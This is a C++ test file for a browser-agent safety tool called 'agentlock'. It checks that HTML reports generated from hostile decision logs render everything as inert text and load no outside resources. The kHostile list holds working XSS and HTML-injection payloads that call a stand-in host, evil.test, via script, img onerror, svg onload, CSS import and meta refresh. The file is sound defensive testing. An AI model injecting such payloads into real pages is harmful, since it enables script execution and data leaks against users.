#include <fstream>
#include <sstream>

#include "agentlock/log_line.hpp"
#include "agentlock/receipt_signature.hpp"
#include "case_support.hpp"
#include "unit/agentlock/log_support.hpp"

// The report in a real Chromium, opened by the product itself. A log may hold anything
// that a page, a model or a forger wrote: the page made of it must show that as text,
// run none of it and load nothing (attacks.md A59). The policy in the page would stop
// most of it by itself, so each of the two is also judged without the other.

namespace agentlock::test {
namespace {

/// What would do something if it were taken for markup. None is longer than what the
/// report shows of any text.
const std::vector<std::string> kHostile = {
    "<script>document.title='taken';fetch('http://evil.test/script')</script>",
    "</bdi></bdo></span></p></div><script src=http://evil.test/src></script>",
    "<img src=http://evil.test/img onerror=\"document.title='taken'\">",
    "\"><svg onload=\"fetch('http://evil.test/svg')\"><image href=http://evil.test/image /></svg>",
    "</title></style></textarea><iframe src=http://evil.test/frame></iframe>",
    "<style>@import url(http://evil.test/css); * { display: none }</style>",
    "<link rel=stylesheet href=http://evil.test/link><base href=http://evil.test/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.test/refresh\">",
    "<a href=http://evil.test/a>evil link</a><form action=http://evil.test/f><button>evil button",
    "--><!--<plaintext><xmp><noscript>&lt;b&gt;&#60;i&#62;",
};

std::string read_file(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

/// The report on a log, made by the real binary.
std::string report_on(const ScratchFolder& home, const std::string& log, const std::string& key,
                      int code) {
  const auto made =
      run_binary(home.path(), {"report", log, "-o", home.file("report.html"), "--key", key});
  REQUIRE(made.has_value());
  INFO(made->errors);
  CHECK(made->status.code == code);
  CHECK(made->output.empty());
  return read_file(home.file("report.html"));
}

/// All that a person reads on the page, block by block.
std::string read_all(CaseServer& server) {
  std::string text;
  Json arguments = {{"max_chars", 60'000}};
  for (;;) {
    const Json result = server.call("read_text", arguments);
    for (const Json& block : result.at("blocks")) {
      text += block.at("text").get<std::string>() + '\n';
    }
    if (!result.contains("next_cursor")) return text;
    arguments["cursor"] = result.at("next_cursor");
  }
}

/// Opens the page and checks that it is a page of text and nothing else.
std::string open_quietly(const std::string& page, const std::string& title) {
  CaseSite site;
  site.fixture().serve("/report", html(page));
  CaseServer server(site, allowlisted("Read the report."));
  const Json opened = server.open("/report");
  INFO(opened.dump());
  CHECK(opened.at("ok") == true);
  CHECK(opened.at("title") == title);
  CHECK_FALSE(opened.contains("blocked"));
  std::string text = read_all(server);
  // A second look, when all that was going to happen has had its time.
  const Json snapshot = server.call("snapshot", {{"max_elements", 500}});
  CHECK(snapshot.at("title") == title);
  for (const Json& element : snapshot.at("elements")) {
    INFO(element.dump());
    // What folds is a button to Chromium, and the report has no other.
    if (element.at("role") == "button") CHECK(element.contains("expanded"));
    if (element.at("role") != "link") continue;
    CHECK(element.at("href").get<std::string>().starts_with("http://fixture.test/report#"));
  }
  CHECK(site.evil().connects().empty());
  CHECK(site.fixture().targets() == std::vector<std::string>{"/report"});
  server.end_and_verify();
  return text;
}

/// The page without its policy: what escaping alone is worth.
std::string without_policy(std::string page) {
  const std::size_t begin = page.find("<meta http-equiv=\"Content-Security-Policy\"");
  REQUIRE(begin != std::string::npos);
  return page.erase(begin, page.find('>', begin) + 1 - begin);
}

std::string all_of_it() {
  std::string all;
  for (const std::string& one : kHostile) all += one;
  return all;
}

/// A log with each hostile text in each place where a text can stand.
void write_hostile_log(const std::string& path, const SigningKey& key) {
  ModelClock clock;
  ModelFile file;
  // A line that nobody's log writer wrote, before all others: it is the first fault.
  file.bytes = all_of_it() + "\x1b[2J\xff\xed\xa0\x80\n";
  for (std::size_t i = 0; i < kHostile.size(); ++i) {
    const std::string& hostile = kHostile[i];
    ModelLog log(file, key, clock, hostile.substr(0, 100) + std::to_string(i));
    REQUIRE(log.log.append("provenance", {{"provenance_id", hostile.substr(0, 60)},
                                          {"channel", "USER"},
                                          {"source", hostile},
                                          {"content", hostile}}));
    REQUIRE(log.log.append("provenance", {{"provenance_id", "cited"},
                                          {"channel", "PAGE"},
                                          {"source", hostile},
                                          {"origin", hostile},
                                          {"content", "x" + hostile + "token" + hostile}}));
    REQUIRE(log.log.append("provenance", {{"channel", "ALLOWLIST"}, {"origin", hostile}}));
    REQUIRE(log.log.append("browser", {{"version", hostile}}));
    REQUIRE(log.log.append(hostile, {{hostile, {hostile}}}));
    REQUIRE(log.log.append("elicit_request", {{"params", {{"message", hostile}}}}));
    REQUIRE(log.log.append(
        "elicit_result", {{"result", {{"action", hostile}, {"content", {{"choice", hostile}}}}}}));
    Json fields = decision_fields(key, "deny");
    for (const char* name : {"action", "href", "origin", "channel", "decided_by", "reason",
                             "detail", "cause", "confirmation", "audit_id"}) {
      fields[name] = hostile;
    }
    fields["decision"] = i % 2 == 0 ? "deny" : hostile;
    fields["parameters"] = {{"value", hostile}, {hostile, hostile}};
    fields["fail_open"] = true;
    fields["lineage_evidence"] = {{"matched_token", "token"},
                                  {"matched_kind", hostile},
                                  {"element", hostile},
                                  {hostile, hostile},
                                  {"untrusted_provenance_id", "cited"}};
    fields["grant_basis"] = {{hostile, hostile}};
    fields[hostile] = hostile;
    Receipt receipt = *receipt_of(fields["receipt"]);
    receipt.role = hostile;
    fields["receipt"] = to_json(*sign(receipt, key, SigningMethod::kEd25519));
    REQUIRE(log.log.append("decision", fields));
    REQUIRE(log.log.end({{"why", hostile}}));
  }
  // And a torn one.
  file.bytes += "{\"session\":\"" + all_of_it();
  std::ofstream(path, std::ios::binary) << file.bytes;
}

}  // namespace

TEST_CASE("A59: the report on a real session is read as it was", "[browser]") {
  const ScratchFolder home;
  std::string page;
  {
    CaseSite site;
    site.fixture().serve("/article", html("<!doctype html><title>article</title><p>Get it at "
                                          "http://evil.test/&lt;img src=x onerror=alert(1)&gt;"
                                          "<p>code &lt;b&gt;tk-4417-zz&lt;/b&gt;"
                                          "<label>Note <input></label>"));
    ServerOptions options = allowlisted("Read the article on fixture.test & say <b>hello</b>.");
    options.arguments = {"--log-page-text"};
    CaseServer server(site, options);
    server.open("/article");
    server.call("read_text");
    server.navigate("http://evil.test/<img src=x onerror=alert(1)>");
    server.type(server.element("textbox", "Note"), "<b>tk-4417-zz</b>");
    server.type(server.element("textbox", "Note"), "<b>hello</b>");
    server.end_and_verify();
    page = report_on(home, server.log().path(), server.public_key(), 0);
  }
  const std::string text = open_quietly(page, "Verified: decision log report");
  INFO(text);
  const auto has = [&](const std::string& part) { return text.find(part) != std::string::npos; };
  CHECK(has("✓ Verified"));
  CHECK(has("Read the article on fixture.test & say <b>hello</b>."));
  CHECK(has("http://evil.test/<img src=x onerror=alert(1)>"));
  CHECK(has("<b>tk-4417-zz</b>"));
  CHECK(has("It stands in what read_text read from http://fixture.test"));
  CHECK(has("✓ verifies"));
}

TEST_CASE("A59: a hostile log is shown as text, runs no script and loads nothing", "[browser]") {
  const ScratchFolder home;
  const SigningKey key = test_key();
  write_hostile_log(home.file("log"), key);
  std::ofstream(home.file("key.pub")) << key.public_key_hex() << '\n';
  const std::string page = report_on(home, home.file("log"), home.file("key.pub"), 1);

  const auto variant = GENERATE("as it is", "without its policy");
  INFO(variant);
  const bool bare = std::string_view(variant) != "as it is";
  const std::string text =
      open_quietly(bare ? without_policy(page) : page, "Broken: decision log report");
  for (const std::string& hostile : kHostile) {
    INFO(hostile);
    // Once for each place that is not folded away.
    std::size_t count = 0;
    for (std::size_t at = 0; (at = text.find(hostile, at)) != std::string::npos; ++at) ++count;
    CHECK(count >= 15);
  }
  CHECK(text.find("\\u{1B}[2J\\xff\\xed\\xa0\\x80") != std::string::npos);
  CHECK(text.find("First fault: no_log_line") != std::string::npos);
}

TEST_CASE("A59: markup that got into a report would still run no script and load nothing",
          "[browser]") {
  const ScratchFolder home;
  const SigningKey key = test_key();
  ModelClock clock;
  ModelFile file;
  ModelLog log(file, key, clock);
  REQUIRE(log.decide());
  REQUIRE(log.log.end(Json::object()));
  std::ofstream(home.file("log"), std::ios::binary) << file.bytes;
  std::ofstream(home.file("key.pub")) << key.public_key_hex() << '\n';
  std::string page = report_on(home, home.file("log"), home.file("key.pub"), 0);
  std::string markup;
  for (const std::string& one : kHostile) {
    // No policy forbids a page to go elsewhere, or to have links: the gate does.
    const bool goes = one.find("refresh") != std::string::npos;
    const bool links = one.find("<a href") != std::string::npos;
    if (!goes && !links && one.find("plaintext") == std::string::npos) markup += one;
  }
  const std::size_t body = page.find("<body>") + 6;

  SECTION("with the policy nothing happens") {
    page.insert(body, markup);
    open_quietly(page, "Verified: decision log report");
  }
  SECTION("without it, it does: the test can tell") {
    page.insert(body, markup);
    CaseSite site;
    site.fixture().serve("/report", html(without_policy(page)));
    CaseServer server(site, allowlisted("Read the report."));
    server.open("/report");
    for (const char* path :
         {"/script", "/src", "/img", "/svg", "/image", "/frame", "/css", "/link"}) {
      INFO(path);
      CHECK(site.evil().wait_for_path(path, after(std::chrono::seconds(20))).has_value());
    }
  }
}

}  // namespace agentlock::test
